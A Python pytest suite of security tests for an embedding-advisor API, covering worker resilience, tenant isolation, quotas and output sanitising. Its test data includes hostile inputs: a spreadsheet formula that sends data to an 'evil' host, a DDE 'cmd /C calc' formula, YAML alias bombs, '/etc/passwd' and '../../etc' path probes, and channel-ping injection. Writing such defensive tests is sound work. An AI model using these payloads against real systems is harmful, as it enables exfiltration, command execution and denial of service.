"""Attacks of issue 20: a careless or hostile user against the job worker, tenancy, quotas and output hygiene.

Each test names the attack and the outcome the service must give. In-process (TestClient) unless the attack needs
a real process (worker processes, time limits): everything stays on 127.0.0.1 and finishes in seconds.
"""

from __future__ import annotations

import errno
import json
import logging
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import job_runners
import pytest
from fastapi.testclient import TestClient

from agent.evaluation_jobs import EvaluationJobs
from agent.service import AdvisorService
from knowledge.errors import UnknownJobError
from knowledge.settings import Settings
from tools.evaluation.retrieval_check import EvalRequest
from ui.api.app import create_app
from ui.api.security import ApiLimits, check_startup

ALICE, BOB, ADMIN = "alice-token-0123456789", "bob-token-0123456789ab", "admin-token-0123456789"
A = {"Authorization": f"Bearer {ALICE}"}
B = {"Authorization": f"Bearer {BOB}"}
ROOT = {"Authorization": f"Bearer {ADMIN}"}
DOCS = {"documents": [{"id": "d1", "text": "rent review clauses"}, {"id": "d2", "text": "notice periods"}],
        "models": ["bm25"]}


def wait(jobs_or_client: Any, job_id: str, headers: dict[str, str] | None = None, timeout: float = 30) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if isinstance(jobs_or_client, EvaluationJobs):
            job = jobs_or_client.get(job_id)
        else:
            job = jobs_or_client.get(f"/v1/evaluations/{job_id}", headers=headers).json()
        if job["status"] in ("done", "failed", "cancelled"):
            return job
        time.sleep(0.02)
    raise AssertionError(f"job {job_id} not finished in {timeout}s: {job}")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[tuple[TestClient, AdvisorService, EvaluationJobs, Path]]:
    settings = Settings(data_dir=tmp_path)
    service = AdvisorService(settings)
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, settings=settings, workers=1, max_queue=4)
    app = create_app(service, settings, [ALICE, BOB], limits=ApiLimits(rate_per_min=100_000), jobs=jobs,
                     admin_tokens=[ADMIN])
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, service, jobs, tmp_path
    service.close()


def request_for(jobs: EvaluationJobs, tmp: Path, models: list[str] | None = None) -> tuple[str, EvalRequest]:
    job_id, folder = jobs.new_job()
    (folder / "corpus.jsonl").write_text('{"id": "d1", "text": "x"}\n')
    return job_id, EvalRequest(corpus=folder / "corpus.jsonl", models=models or ["bm25"],
                               out_dir=jobs.out_dir(job_id), data_dir=tmp)


# -- 1. a worker that can be neither killed nor starved -------------------------------------------------------------
def test_a_full_disk_during_status_writes_does_not_kill_the_worker(tmp_path, monkeypatch):
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    try:
        real = EvaluationJobs._write
        monkeypatch.setattr(EvaluationJobs, "_write", staticmethod(
            lambda path, data: (_ for _ in ()).throw(OSError(errno.ENOSPC, "No space left on device"))
            if path.name == "job.json" else real(path, data)))
        first, req = request_for(jobs, tmp_path)
        jobs.submit(first, req)
        assert wait(jobs, first)["status"] in ("done", "failed")
        monkeypatch.setattr(EvaluationJobs, "_write", staticmethod(real))
        second, req = request_for(jobs, tmp_path)
        jobs.submit(second, req)
        assert wait(jobs, second)["status"] == "done"  # the worker is alive after the full disk
        assert jobs.health()["alive"] == jobs.health()["workers"] == 1
    finally:
        jobs.close()


def test_job_json_never_goes_back_to_pending_when_a_worker_finishes_the_job_first(tmp_path, monkeypatch):
    """A loaded machine: the submitter loses the CPU between its insert and its "pending" copy of job.json.

    The worker claims the job and finishes it in that gap; the late copy must not turn job.json back to pending
    (it read pending for ever while the job had failed: test_api_schema's teardown waited 180 s on it).
    """
    jobs = EvaluationJobs(tmp_path, runner=job_runners.all_failed, workers=1)
    try:
        insert = jobs._table.insert

        def insert_then_lose_the_cpu(*args: Any, **kwargs: Any) -> bool:
            inserted = insert(*args, **kwargs)
            deadline = time.monotonic() + 30
            while jobs._table.get(args[1]["id"])["status"] not in ("done", "failed") and time.monotonic() < deadline:
                time.sleep(0.01)
            return inserted

        monkeypatch.setattr(jobs._table, "insert", insert_then_lose_the_cpu)
        job_id, req = request_for(jobs, tmp_path)
        jobs.submit(job_id, req)
        assert jobs.get(job_id)["status"] == "failed"
        assert json.loads((jobs.out_dir(job_id) / "job.json").read_text(encoding="utf-8"))["status"] == "failed"
    finally:
        jobs.close()


def test_a_deleted_jobs_folder_is_not_made_again_by_a_late_status_copy(tmp_path):
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    try:
        job_id, req = request_for(jobs, tmp_path)
        jobs.submit(job_id, req)
        job = wait(jobs, job_id)
        jobs.delete(job_id)
        jobs._mirror({**job, "status": "running"})  # a worker's progress copy that lost the race with the delete
        assert not jobs.out_dir(job_id).exists()
    finally:
        jobs.close()


def test_a_job_deleted_while_its_worker_still_cleans_up_after_it_is_gone(tmp_path, monkeypatch):
    """GET after DELETE answered 200 from the worker's copy of a finished job it had not put away yet."""
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    try:
        deleted = threading.Event()
        remove_uploads = jobs._remove_uploads

        def worker_slow_to_clean_up(job_id: str) -> None:
            if threading.current_thread().name.startswith("evaluation-worker"):
                deleted.wait(30)
            remove_uploads(job_id)

        monkeypatch.setattr(jobs, "_remove_uploads", worker_slow_to_clean_up)
        job_id, req = request_for(jobs, tmp_path)
        jobs.submit(job_id, req)
        assert wait(jobs, job_id)["status"] == "done"
        jobs.delete(job_id)
        with pytest.raises(UnknownJobError):
            jobs.get(job_id)
        deleted.set()
        deadline = time.monotonic() + 30
        while jobs._claims and time.monotonic() < deadline:
            time.sleep(0.01)
        with pytest.raises(UnknownJobError):
            jobs.get(job_id)
        assert not jobs.out_dir(job_id).exists() and not (tmp_path / "uploads" / job_id).exists()
    finally:
        jobs.close()


def test_a_dead_worker_is_restarted_by_the_supervisor(tmp_path, monkeypatch):
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    try:
        original = jobs._run_job
        calls = {"n": 0}

        def dies_once(*args: Any) -> None:
            calls["n"] += 1
            if calls["n"] == 1:
                raise SystemExit("a bug escapes every except clause")
            original(*args)

        monkeypatch.setattr(jobs, "_run_job", dies_once)
        first, req = request_for(jobs, tmp_path)
        jobs.submit(first, req)
        second, req = request_for(jobs, tmp_path)
        jobs.submit(second, req)
        assert wait(jobs, second)["status"] == "done"
        job = wait(jobs, first)
        assert job["status"] == "failed" and job["error"]["code"] == "internal_error", job
        assert jobs.health()["restarts"] >= 1 and jobs.health()["alive"] == 1
    finally:
        jobs.close()


def test_healthz_reports_the_worker_and_is_not_ok_when_it_cannot_be_restarted(server, monkeypatch):
    client, _, jobs, _ = server
    body = client.get("/healthz").json()
    assert body["status"] == "ok" and body["worker"]["alive"] == 1 and body["worker"]["queue_depth"] == 0
    monkeypatch.setattr(jobs, "_start_worker", lambda index: (_ for _ in ()).throw(RuntimeError("cannot start")))
    for _ in range(jobs.workers):  # the workers end (as at shutdown), and none can be started again
        jobs._queue.put(None)
    deadline = time.monotonic() + 10
    while (r := client.get("/healthz")).status_code == 200 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert r.status_code == 503 and r.json()["status"] == "degraded" and r.json()["worker"]["alive"] == 0, r.text


def test_a_job_over_its_time_limit_is_killed_and_the_next_one_runs(tmp_path):
    """A parser stuck for hours (the 326 KB PDF) runs in a worker process: it is killed at the limit."""
    jobs = EvaluationJobs(tmp_path, runner=job_runners.spin, workers=1, time_limit_s=3, isolate=True)
    try:
        stuck, req = request_for(jobs, tmp_path)
        jobs.submit(stuck, req)
        deadline = time.monotonic() + 20
        while jobs.get(stuck)["status"] != "running" and time.monotonic() < deadline:
            time.sleep(0.02)
        jobs.runner = job_runners.quick
        after, req = request_for(jobs, tmp_path)
        jobs.submit(after, req)
        job = wait(jobs, stuck, timeout=30)
        assert job["status"] == "failed" and job["error"]["code"] == "timeout", job
        assert "3 s" in job["error"]["message"] or "3-second" in job["error"]["message"], job
        assert wait(jobs, after, timeout=30)["status"] == "done"
    finally:
        jobs.close()


def test_a_running_job_can_be_cancelled_through_the_api(server, monkeypatch):
    client, _, jobs, _ = server
    jobs.runner = job_runners.sleepy
    r = client.post("/v1/evaluations", json=DOCS, headers=A)
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    assert client.post(f"/v1/evaluations/{job_id}/cancel", headers=B).status_code == 404  # not Bob's
    r = client.post(f"/v1/evaluations/{job_id}/cancel", headers=A)
    assert r.status_code == 200, r.text
    job = wait(client, job_id, A)
    assert job["status"] == "cancelled", job
    jobs.runner = job_runners.quick
    r = client.post("/v1/evaluations", json=DOCS, headers=A)
    assert wait(client, r.json()["id"], A)["status"] == "done"


def test_a_full_queue_answers_429_with_retry_after(server):
    client, _, jobs, _ = server
    jobs.runner = job_runners.sleepy
    codes = [client.post("/v1/evaluations", json=DOCS, headers=A) for _ in range(8)]
    full = [r for r in codes if r.status_code == 429]
    assert full, [r.status_code for r in codes]
    assert int(full[0].headers["Retry-After"]) >= 1 and full[0].json()["code"] == "queue_full"
    assert client.get("/healthz").json()["worker"]["queue_depth"] >= 1
    for r in codes:
        if r.status_code == 202:
            client.post(f"/v1/evaluations/{r.json()['id']}/cancel", headers=A)


def test_a_job_whose_candidates_all_failed_is_failed(server):
    client, _, jobs, _ = server
    jobs.runner = job_runners.all_failed
    r = client.post("/v1/evaluations", json=DOCS, headers=A)
    job = wait(client, r.json()["id"], A)
    assert job["status"] == "failed" and job["error"]["code"] == "all_candidates_failed", job


def test_uploads_are_deleted_after_a_job_and_orphans_at_start_up(tmp_path):
    orphan_upload = tmp_path / "uploads" / "0123456789ab" / "corpus"
    orphan_upload.mkdir(parents=True)
    (orphan_upload / "a.txt").write_text("left by kill -9")
    orphan_milvus = tmp_path / "milvus" / "20261206-010000-abcdef"
    orphan_milvus.mkdir(parents=True)
    (orphan_milvus / "bm25.db").write_text("x")
    gone = subprocess.Popen(["true"])
    gone.wait()
    (orphan_milvus / ".pid").write_text(str(gone.pid))  # the run's process is dead
    kept = tmp_path / "milvus" / "20261206-010000-kept00"
    kept.mkdir()
    (kept / "bm25.db").write_text("kept with --keep-index: no .pid")
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    try:
        assert not orphan_upload.parent.exists() and not orphan_milvus.exists() and kept.exists()
        job_id, req = request_for(jobs, tmp_path)
        jobs.submit(job_id, req)
        assert wait(jobs, job_id)["status"] == "done"
        deadline = time.monotonic() + 5
        while (tmp_path / "uploads" / job_id).exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert not (tmp_path / "uploads" / job_id).exists()
    finally:
        jobs.close()


# -- 2. owners everywhere -------------------------------------------------------------------------------------
def test_another_token_cannot_list_read_or_write_a_consultation(server):
    client, *_ = server
    cid = client.post("/v1/consultations", json={"message": "legal contracts in German"}, headers=A).json()[
        "consultation_id"]
    assert client.get(f"/v1/consultations/{cid}", headers=B).status_code == 404
    r = client.post(f"/v1/consultations/{cid}/messages", json={"text": "just recommend"}, headers=B)
    assert r.status_code == 404 and r.json()["code"] == "not_found"
    assert cid not in json.dumps(client.get("/v1/consultations", headers=B).json())
    assert client.delete(f"/v1/consultations/{cid}", headers=B).status_code == 404
    why_not = f"/v1/consultations/{cid}/why-not?model=BAAI/bge-m3"  # issue 15's route reads the consultation too
    assert client.get(why_not, headers=B).status_code == 404
    assert client.get(why_not, headers=A).status_code == 200
    assert client.get(f"/v1/consultations/{cid}", headers=A).status_code == 200
    assert cid in json.dumps(client.get("/v1/consultations", headers=A).json())
    assert cid in json.dumps(client.get("/v1/consultations", headers=ROOT).json())  # an admin lists all


def test_a_start_request_id_of_another_token_starts_a_new_consultation(server):
    client, *_ = server
    first = client.post("/v1/consultations", json={"message": "legal", "request_id": "r-1"}, headers=A).json()
    second = client.post("/v1/consultations", json={"message": "legal", "request_id": "r-1"}, headers=B).json()
    assert second["consultation_id"] != first["consultation_id"] and not second["replayed"]


def test_another_token_cannot_read_cancel_or_delete_a_job(server):
    client, *_ = server
    job_id = client.post("/v1/evaluations", json=DOCS, headers=A).json()["id"]
    wait(client, job_id, A)
    assert client.get(f"/v1/evaluations/{job_id}", headers=B).status_code == 404
    assert client.delete(f"/v1/evaluations/{job_id}", headers=B).status_code == 404
    assert client.get(f"/v1/evaluations/{job_id}", headers=ROOT).status_code == 200


def test_slack_consultations_are_not_listed_to_api_tokens(server):
    client, service, *_ = server
    from agent.principal import Principal

    reply = service.start("legal contracts", principal=Principal("slack:T1:U1"))
    assert reply.consultation_id not in json.dumps(client.get("/v1/consultations", headers=A).json())
    assert client.get(f"/v1/consultations/{reply.consultation_id}", headers=A).status_code == 404
    assert client.get(f"/v1/consultations/{reply.consultation_id}", headers=ROOT).status_code == 200


# -- 3. quotas and retention ------------------------------------------------------------------------------------
def test_delete_routes_remove_a_consultation_and_a_job(server):
    client, _, _, data_dir = server
    cid = client.post("/v1/consultations", json={"message": "legal"}, headers=A).json()["consultation_id"]
    assert client.delete(f"/v1/consultations/{cid}", headers=A).status_code == 204
    assert client.get(f"/v1/consultations/{cid}", headers=A).status_code == 404
    job_id = client.post("/v1/evaluations", json=DOCS, headers=A).json()["id"]
    wait(client, job_id, A)
    assert client.delete(f"/v1/evaluations/{job_id}", headers=A).status_code == 204
    assert client.get(f"/v1/evaluations/{job_id}", headers=A).status_code == 404
    assert not (data_dir / "evaluations" / job_id).exists() and not (data_dir / "uploads" / job_id).exists()


def test_a_principal_over_its_disk_quota_is_refused_with_507(tmp_path):
    settings = Settings(data_dir=tmp_path)
    service = AdvisorService(settings)
    jobs = EvaluationJobs(tmp_path, runner=job_runners.sleepy, settings=settings, workers=1)
    app = create_app(service, settings, [ALICE, BOB], jobs=jobs,
                     limits=ApiLimits(rate_per_min=100_000, quota_bytes=200_000))
    big = {"documents": [{"id": f"d{i}", "text": "x" * 9_000} for i in range(30)], "models": ["bm25"]}
    try:
        with TestClient(app, raise_server_exceptions=False) as client:
            codes = [client.post("/v1/evaluations", json=big, headers=A) for _ in range(3)]
            assert [r.status_code for r in codes][:1] == [202] and codes[-1].status_code == 507, codes[-1].text
            assert codes[-1].json()["code"] == "quota_exceeded"
            bob = client.post("/v1/evaluations", json=big, headers=B)
            assert bob.status_code == 202  # Bob has a quota of his own
            for r in [*codes, bob]:
                if r.status_code == 202:
                    client.delete(f"/v1/evaluations/{r.json()['id']}", headers=A if r is not bob else B)
    finally:
        service.close()


def test_large_json_evaluation_bodies_are_refused_at_a_lower_limit(server):
    client, *_ = server
    body = {"documents": [{"id": f"d{i}", "text": "y" * 100_000} for i in range(120)]}  # ~12 MB
    r = client.post("/v1/evaluations", json=body, headers=A)
    assert r.status_code == 413 and r.json()["code"] == "too_large", r.text


def test_old_consultations_are_purged_by_the_retention_setting(tmp_path):
    service = AdvisorService(Settings(data_dir=tmp_path))
    try:
        old = service.start("legal contracts").consultation_id
        new = service.start("medical notes").consultation_id
        service._store.index._execute("UPDATE advisor_consultations SET updated_at = ? WHERE id = ?",
                                      ("2020-01-01T00:00:00+00:00", old))
        assert service.purge(older_than_days=30) == 1
        ids = [c.consultation_id for c in service.list()]
        assert old not in ids and new in ids
    finally:
        service.close()


# -- 4. output hygiene, auth and consistent errors -----------------------------------------------------------------
def test_wrong_tokens_are_throttled(server):
    client, *_ = server
    codes = [client.get("/v1/consultations", headers={"Authorization": f"Bearer wrong-{i}"}).status_code
             for i in range(60)]
    assert 429 in codes, codes
    r = client.get("/v1/consultations", headers={"Authorization": "Bearer wrong"})
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1


def test_a_very_short_token_is_warned_about(caplog):
    with caplog.at_level(logging.WARNING):
        check_startup(["ab"], "127.0.0.1", False)
    assert any("short" in r.getMessage() for r in caplog.records)


def test_a_full_disk_during_an_upload_answers_507(server, monkeypatch):
    client, *_ = server
    import ui.api.app as api

    def full(*args: Any, **kwargs: Any) -> Any:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(api, "_save_upload", full)
    r = client.post("/v1/evaluations", files=[("files", ("a.txt", b"text " * 50, "text/plain"))], headers=A)
    assert r.status_code == 507 and r.json()["code"] == "storage_full", r.text


def test_document_ids_with_tabs_are_refused_naming_the_field(server):
    client, *_ = server
    r = client.post("/v1/evaluations", json={"documents": [{"id": "a\tb", "text": "x"}]}, headers=A)
    assert r.status_code == 422 and r.json()["field"].startswith("documents.0.id"), r.text


def test_a_json_integer_over_4300_digits_is_a_clear_422(server):
    client, *_ = server
    raw = ('{"documents": [{"id": "d1", "text": "x"}], "queries": [{"id": "q1", "text": "y"}], '
           '"qrels": [{"query_id": "q1", "doc_id": "d1", "score": ' + "9" * 5000 + "}]}")
    r = client.post("/v1/evaluations", content=raw, headers={**A, "Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    assert "number out of range" in r.text or "qrels" in r.json().get("field", ""), r.text


def test_a_corpus_line_with_a_4300_digit_integer_fails_the_job_naming_the_line(server):
    client, *_ = server
    from tools.documents.corpus import load_corpus

    job_root = server[3] / "case"
    job_root.mkdir()
    (job_root / "docs.jsonl").write_text('{"id": 1, "text": "a"}\n{"id": ' + "9" * 5000 + ', "text": "b"}\n')
    with pytest.raises(Exception, match=r"docs.jsonl: line 2"):
        load_corpus(job_root)


@pytest.mark.parametrize("spec", ["/etc/passwd", "/nonexistent/model", "{data}/checkpoints.sqlite", "../../etc"])
def test_a_model_given_as_a_server_path_reveals_nothing(server, spec):
    client, _, _, data_dir = server
    body = {**DOCS, "models": [spec.format(data=data_dir)]}
    r = client.post("/v1/evaluations", json=body, headers=A)
    assert r.status_code == 422, r.text
    assert str(data_dir) not in r.text and "exist" not in r.text.lower() and "outside" not in r.text.lower()


def test_error_bodies_have_one_shape_on_every_route(server):
    client, *_ = server
    responses = [
        client.get("/v1/consultations"),  # 401
        client.get("/v1/consultations/nope", headers=A),  # 404
        client.post("/v1/recommendations", content=b"x" * 2_000_000, headers={**A, "Content-Type":
                                                                                 "application/json"}),  # 413
        client.post("/v1/evaluations", content=b"hi", headers={**A, "Content-Type": "text/plain"}),  # 415
        client.post("/v1/recommendations", json={"corpus_docs": -1}, headers=A),  # 422
        client.put("/v1/consultations", headers=A),  # 405
    ]
    for r in responses:
        body = r.json()
        assert r.status_code >= 400 and set(body) >= {"code", "message"}, (r.status_code, body)


def test_docs_load_nothing_from_a_cdn(server):
    client, *_ = server
    r = client.get("/docs")
    assert "cdn." not in r.text and "jsdelivr" not in r.text
    assert client.get("/openapi.json").status_code == 200


# -- 5. batch and file hygiene -----------------------------------------------------------------------------------
def alias_bomb(levels: int = 6) -> str:
    lines = ['  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    return "- id: anchors\n  corpus_docs: 1000\n  notes:\n" + "\n".join("  " + x for x in lines) + \
        f"\n- id: *l{levels - 1}\n  corpus_docs: 1000\n"


def test_a_yaml_alias_bomb_in_a_batch_file_is_refused(tmp_path):
    from agent.batch import run_batch
    from knowledge.errors import InputFileError

    path = tmp_path / "profiles.yaml"
    path.write_text(alias_bomb())
    with pytest.raises(InputFileError, match=r"profiles.yaml.*alias"):
        run_batch(path, tmp_path / "out")
    assert not (tmp_path / "out" / "recommendations.jsonl").exists()


def test_a_yaml_alias_bomb_in_a_profile_is_refused(tmp_path):
    from tools.profile.schema import load_profile_file

    path = tmp_path / "profile.yaml"
    lines = ["a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 5)]
    path.write_text("\n".join(lines) + "\ndomain: [" + ", ".join(["*a4"] * 9) + "]\n")
    with pytest.raises(Exception, match=r"alias"):
        load_profile_file(path)


def test_spreadsheet_formulas_are_neutralised_in_summary_csv(tmp_path):
    import csv

    from agent.batch import run_batch

    path = tmp_path / "profiles.jsonl"
    rows = ['=HYPERLINK("http://evil/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3"]
    path.write_text("".join(json.dumps({"id": r, "corpus_docs": 1000}) + "\n" for r in rows))
    run_batch(path, tmp_path / "out")
    cells = [row["id"] for row in csv.DictReader((tmp_path / "out" / "summary.csv").open(encoding="utf-8"))]
    assert len(cells) == len(rows)
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert [c.lstrip("'") for c in cells] == rows  # the text itself is kept


def test_a_json_integer_over_4300_digits_in_a_batch_row_is_that_rows_error(tmp_path):
    from agent.batch import run_batch

    path = tmp_path / "profiles.jsonl"
    path.write_text(json.dumps({"id": "ok", "corpus_docs": 1000}) + "\n" + '{"id": "big", "corpus_docs": '
                    + "9" * 5000 + "}\n")
    counts = run_batch(path, tmp_path / "out")
    assert counts == {"ok": 1, "error": 1, "skipped": 0}
    results = [json.loads(line) for line in (tmp_path / "out" / "recommendations.jsonl").read_text().splitlines()]
    assert "4300 digits" in results[1]["error"] or "digits" in results[1]["error"], results[1]


def test_upstream_error_texts_are_scrubbed_of_keys_urls_and_paths(tmp_path):
    from knowledge.redact import scrub

    text = ("EncoderError: Error code: 401 - {'error': {'message': 'Incorrect API key provided: Bearer "
            "sk-proj-abcdefghijklmnopqrstuvwxyz012345. url=http://10.1.2.3:8080/v1/embeddings', "
            f"'path': '{tmp_path}/uploads/x/corpus/a.txt', 'api_key=hunter2hunter2'}}}}")
    clean = scrub(text, paths=[tmp_path])
    for secret in ("sk-proj-abcdef", "10.1.2.3", "http://", str(tmp_path), "hunter2hunter2"):
        assert secret not in clean, clean
    assert "401" in clean and "Incorrect API key provided" in clean


def test_job_status_and_results_never_hold_an_upstream_secret(tmp_path):
    def leaky(request: EvalRequest, progress: Any) -> dict[str, Any]:
        out = job_runners.results(request, status="error")
        for figures in out["models"].values():
            figures["error"] = "EncoderError: Incorrect API key provided: Bearer sk-live-0123456789abcdefghijkl " \
                               "at https://internal.example:8443/v1/embeddings"
        (request.out_dir / "results.json").write_text(json.dumps(out))
        return out

    jobs = EvaluationJobs(tmp_path, runner=leaky, workers=1)
    try:
        job_id, req = request_for(jobs, tmp_path, ["openai:text-embedding-3-small", "bm25"])
        jobs.submit(job_id, req)
        job = wait(jobs, job_id)
        stored = "".join(p.read_text() for p in jobs.out_dir(job_id).iterdir() if p.is_file())
        for text in (json.dumps(job), stored):
            assert "sk-live" not in text and "internal.example" not in text, text[:2000]
    finally:
        jobs.close()


# -- 6. Slack and the web UI -------------------------------------------------------------------------------------
@pytest.fixture
def slack_stack(tmp_path: Path) -> Iterator[tuple[TestClient, Any]]:
    from slack_sdk import WebClient
    from slack_standin import SECRET, FakeSlack

    from ui.slack.app import SlackThreads, create_slack_app

    fake = FakeSlack()
    settings = Settings(data_dir=tmp_path)
    service = AdvisorService(settings)
    threads = SlackThreads(tmp_path / "slack.sqlite")
    bolt = create_slack_app(service, SECRET, WebClient(token="xoxb-test", base_url=fake.url), threads)
    jobs = EvaluationJobs(tmp_path, runner=job_runners.quick, workers=1)
    app = create_app(service, settings, [ALICE], limits=ApiLimits(rate_per_min=100_000), jobs=jobs, slack_app=bolt)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, fake
    fake.close()
    threads.close()
    service.close()


def _slash(text: str, trigger: str) -> str:
    from urllib.parse import urlencode

    return urlencode({"command": "/embedding-advisor", "text": text, "channel_id": "C1", "user_id": "U1",
                      "team_id": "T1", "trigger_id": trigger, "token": "x", "response_url": "http://127.0.0.1:9/x"})


def test_a_replayed_slash_command_starts_one_consultation(slack_stack):
    from slack_standin import signed

    client, fake = slack_stack
    body = _slash("legal contracts in German", "13345224609.738474920.8088930838d88f008e0")
    headers = {**signed(body), "Content-Type": "application/x-www-form-urlencoded"}
    for _ in range(3):
        assert client.post("/slack/events", content=body, headers=headers).status_code == 200
    fake.wait_posts(2)
    time.sleep(1.0)
    assert len(fake.posts) == 2, fake.posts  # the opener and one reply, not three of each


def test_slash_command_text_cannot_ping_the_channel(slack_stack):
    from slack_standin import signed

    client, fake = slack_stack
    body = _slash("<!channel> <!here> <@U999> legal contracts", "13345224609.738474920.1111")
    client.post("/slack/events", content=body, headers={**signed(body),
                                                       "Content-Type": "application/x-www-form-urlencoded"})
    fake.wait_posts(1)
    opener = json.dumps(fake.posts[0])
    assert "<!channel>" not in opener and "<!here>" not in opener and "<@U999>" not in opener, opener


def test_slack_errors_have_the_api_error_shape(slack_stack):
    client, _ = slack_stack
    r = client.post("/slack/events", content=b"{}", headers={"Content-Type": "application/json"})
    assert r.status_code == 401 and set(r.json()) >= {"code", "message"}, r.text


def test_the_web_ui_refuses_to_start_beyond_loopback_without_auth(tmp_path):
    from knowledge.settings import SettingsError
    from ui.web.app import check_ui_startup

    with pytest.raises(SettingsError, match="ADVISOR_UI_AUTH"):
        check_ui_startup(None, "0.0.0.0")
    settings = Settings.from_env({"ADVISOR_DATA_DIR": str(tmp_path), "ADVISOR_UI_AUTH": "ann:a-long-password"})
    assert check_ui_startup(settings.ui_auth, "0.0.0.0") == [("ann", "a-long-password")]
    assert check_ui_startup(None, "127.0.0.1") is None


def test_remote_markdown_images_are_not_rendered_in_the_web_ui():
    from ui.web.parts import no_remote_images

    text = 'see ![pixel](http://tracker.example/p.gif) and <img src="https://x.example/a.png">'
    clean = no_remote_images(text)
    assert "![" not in clean and "<img" not in clean.lower() and "tracker.example" in clean


# -- 7. per-file parse limits and the web UI's check -----------------------------------------------------------------
def test_a_pdf_of_pages_sharing_one_huge_stream_is_refused_in_seconds_naming_it(tmp_path):
    from knowledge.errors import InputFileError
    from tools.documents.file_readers import read_file

    path = tmp_path / "contract.pdf"
    path.write_bytes(job_runners.shared_stream_pdf())
    assert path.stat().st_size < 400_000
    started = time.monotonic()
    with pytest.raises(InputFileError, match=r"contract.pdf: its page contents decompress to over"):
        read_file(path)
    assert time.monotonic() - started < 20


def test_a_docx_with_a_huge_xml_part_is_refused_before_it_is_parsed(tmp_path):
    from knowledge.errors import InputFileError
    from tools.documents.file_readers import read_file

    path = tmp_path / "report.docx"
    path.write_bytes(job_runners.docx_with_huge_xml())
    assert path.stat().st_size < 1_000_000
    started = time.monotonic()
    with pytest.raises(InputFileError, match=r"report.docx: its part word/document.xml holds"):
        read_file(path)
    assert time.monotonic() - started < 5


def test_the_web_ui_shows_each_signed_in_user_only_their_consultations(tmp_path):
    from types import SimpleNamespace

    from agent.principal import Principal
    from ui.web.app import WebUI

    service = AdvisorService(Settings(data_dir=tmp_path))
    try:
        ui = WebUI(service)
        ann, bob = SimpleNamespace(username="ann"), SimpleNamespace(username="bob")
        out = list(ui.respond("legal contracts in German", None, [], ann))[-1]
        cid = next(c.consultation_id for c in service.list(principal=Principal("web:ann")))
        assert cid in json.dumps(out, default=str)
        assert service.list(principal=Principal("web:bob")) == []
        with pytest.raises(Exception, match="Unknown consultation"):
            service.state(cid, principal=Principal("web:bob"))
        assert cid not in json.dumps(ui.earlier_choices("bob"))
        assert not isinstance(ui.resume(cid, bob)[0], list)  # bob's page gets no transcript of ann's
    finally:
        service.close()


@pytest.mark.slow
def test_the_signed_in_web_ui_creates_nothing_for_unauthenticated_calls(tmp_path):
    import httpx
    from live_server import free_port

    from ui.web.app import launch_app

    service = AdvisorService(Settings(data_dir=tmp_path))
    port = free_port()
    demo = launch_app(service, port=port, block=False, auth=[("ann", "a-long-password")])
    try:
        base = f"http://127.0.0.1:{port}"
        join = {"data": [], "fn_index": 0, "session_hash": "attacker", "event_data": None, "trigger_id": 1}
        codes = [httpx.post(f"{base}/gradio_api/queue/join", json=join).status_code for _ in range(20)]
        codes.append(httpx.post(f"{base}/gradio_api/run/predict", json={"data": []}).status_code)
        assert set(codes) == {401}, codes
        time.sleep(0.5)
        assert service.list() == []  # 21 unauthenticated calls stored no consultation
    finally:
        demo.close()
        service.close()
